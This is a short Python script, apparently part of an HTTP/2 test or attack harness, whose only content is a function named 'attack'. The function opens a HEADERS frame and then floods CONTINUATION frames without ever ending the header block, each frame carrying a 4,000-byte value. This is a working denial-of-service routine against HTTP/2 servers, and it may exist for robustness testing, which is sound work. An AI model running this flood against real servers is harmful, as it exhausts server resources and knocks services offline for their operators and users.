"""Sends headers that go on without an end, by full frames."""

from wire import CONTINUATION, HEADERS, field, frame, serve


def attack(wire, ask) -> None:
    wire.send(frame(HEADERS, 0, wire.play, field(b"x", b"")))
    wire.flood(frame(CONTINUATION, 0, wire.play, field(b"x", b"y" * 4_000)))


serve(attack)
